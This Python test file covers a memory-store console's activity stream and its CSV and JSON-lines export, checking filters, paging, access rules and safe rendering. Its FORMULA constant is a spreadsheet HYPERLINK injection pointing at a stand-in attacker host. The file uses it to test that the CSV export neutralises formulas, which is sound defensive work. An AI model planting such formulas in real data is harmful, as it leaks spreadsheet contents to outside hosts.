"""The stream of all changes, and its export."""

import csv
import io
import json
from datetime import UTC, datetime

from stores.domain.actors import session_actor
from stores.domain.memories import delete_memory
from stores.domain.versions import redact_version
from tests.console import hostile
from tests.console.cases import ConsoleTestCase
from tests.factories import make_memory, make_store, make_version

SESSION = "sesn_01" + "k" * 22
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


class ActivityTestCase(ConsoleTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.agent = session_actor(session_id=SESSION, label=FORMULA, workspace_id=cls.workspace.id)
        cls.log = make_store(actor=cls.actor, name="Project log")
        cls.entry = make_memory(
            actor=cls.agent, store=cls.log, path="/log.md", reason="First entry",
            now=datetime(2027, 3, 2, 9, tzinfo=UTC),
        )  # fmt: skip

    def paths(self, query: str) -> list[str]:
        page = self.page(f"/activity/?{query}")
        return [a["href"] for a in page.all("a") if a.get("class") == "mono wrap"]

    def export(self, kind: str, query: str = "") -> str:
        response = self.get(f"/activity/export.{kind}?{query}")
        self.assertEqual(response.status_code, 200)
        self.assertIn("attachment", response["Content-Disposition"])
        return b"".join(response.streaming_content).decode()


class Stream(ActivityTestCase):
    def test_shows_all_stores_newest_first(self):
        page = self.page("/activity/")
        self.assertIn("/log.mdProject log Created: First entry", page.text)
        self.assertIn(f"/stores/{self.log.id}/", page.links())

    def test_narrows(self):
        entry = f"/stores/{self.log.id}/memories/{self.entry.id}/"
        for query, wanted in {
            "": [entry, self.memory_url],
            f"store={self.log.id}": [entry],
            f"actor={SESSION}": [entry],
            "kind=session_actor": [entry],
            "kind=user_actor": [self.memory_url],
            "road=console": [self.memory_url],
            "road=dream": [],
            "operation=created": [entry, self.memory_url],
            "operation=deleted": [],
            "since=2027-03-02": [entry],
            "until=2027-03-01": [self.memory_url],
            f"kind=user_actor&actor={SESSION}": [],
            "kind=x&road=x&operation=x&since=x&until=x": [entry, self.memory_url],
        }.items():
            with self.subTest(query):
                self.assertEqual(self.paths(query), wanted)

    def test_leads_to_what_else_somebody_wrote(self):
        page = self.page("/activity/")
        [by_session] = [link for link in page.links() if f"actor={SESSION}" in link]
        narrowed = self.page(by_session)
        self.assertIn("Only by session", narrowed.text)
        self.assertIn(SESSION, narrowed.text)
        version = self.page(f"/stores/{self.log.id}/versions/{self.entry.head_version_id}/")
        self.assertIn("What else this session wrote", version.text)
        self.assertIn(f"/activity/?actor={SESSION}", version.links())

    def test_without_a_change_says_what_will_be_here(self):
        self.assertIn("No change yet", self.page("/activity/", user=self.stranger).text)
        self.assertIn("No change is like that", self.page("/activity/?road=dream").text)

    def test_refuses_stores_of_others_and_what_is_no_id(self):
        theirs = make_store()
        for query in (f"store={theirs.id}", "store=x", "actor=x", "after=x", "after=memver_%00"):
            for path in (f"/activity/?{query}", f"/activity/export.csv?{query}"):
                if "after" in query and "export" in path:
                    continue
                with self.subTest(path):
                    self.assertEqual(self.get(path).status_code, 404)
        self.assertEqual(self.get("/activity/export.xls").status_code, 404)

    def test_goes_on_by_pages_and_keeps_the_filters(self):
        for number in range(60):
            make_version(actor=self.actor, memory=self.memory, content=f"{number}\n")
        page = self.page(f"/activity/?store={self.store.id}")
        [more] = [link for link in page.links() if "after=" in link]
        self.assertIn(f"store={self.store.id}", more)
        self.assertEqual(len(self.paths(more.partition("?")[2])), 11)

    def test_takes_the_same_queries_for_few_and_many(self):
        self.client.force_login(self.owner)
        make_version(actor=self.actor, memory=self.memory, content="x\n")
        with self.assertNumQueries(6):
            self.client.get("/activity/")
        for number in range(20):
            make_version(actor=self.actor, memory=self.memory, content=f"{number}\n")
        with self.assertNumQueries(6):
            self.client.get("/activity/")

    def test_shows_names_paths_and_reasons_as_text(self):
        hostile.make_hostile_memories(actor=self.actor, store=make_store(actor=self.actor, name=hostile.NAME))
        page = self.page("/activity/")
        self.assertEqual(page.inline_code(), [])
        self.assertEqual(page.all("img"), [])
        self.assertNotIn("\u202e", page.html)
        self.assertNotIn("{{ 14 }}", page.text)


class Export(ActivityTestCase):
    def rows(self, query: str = "") -> list[dict[str, str]]:
        text = self.export("csv", query)
        self.assertTrue(text.startswith("\ufeff"))
        return list(csv.DictReader(io.StringIO(text[1:], newline="")))

    def test_as_csv_runs_no_formula(self):
        row, _ = self.rows()
        self.assertEqual(row["actor_label"], "'" + FORMULA)
        self.assertEqual(row["path"], "/log.md")
        self.assertEqual(row["created_at"], "2027-03-02T09:00:00.000000Z")

    def test_as_json_lines_is_exact(self):
        rows = [json.loads(line) for line in self.export("jsonl").splitlines()]
        self.assertEqual(rows[0]["actor_label"], FORMULA)
        self.assertEqual(len(rows), 2)

    def test_keeps_the_filters(self):
        self.assertEqual(len(self.rows(f"store={self.store.id}")), 1)
        page = self.page(f"/activity/?store={self.store.id}&road=console")
        [csv_url] = [link for link in page.links() if "export.csv" in link]
        self.assertIn("road=console", csv_url)
        self.assertEqual(len(self.rows(csv_url.partition("?")[2])), 1)

    def test_holds_no_text_and_nothing_redacted(self):
        old = self.memory.head_version_id
        delete_memory(actor=self.actor, store_id=self.store.id, memory_id=self.memory.id)
        redact_version(actor=self.actor, store_id=self.store.id, version_id=old)
        for kind in ("csv", "jsonl"):
            text = self.export(kind)
            self.assertNotIn("30 days", text)
            self.assertEqual(text.count("refunds.md"), 1)

    def test_is_for_members_only(self):
        self.assertEqual(self.client.get("/activity/export.csv").status_code, 302)
        text = b"".join(self.get("/activity/export.csv", user=self.stranger).streaming_content).decode()
        self.assertEqual(len(text.splitlines()), 1)
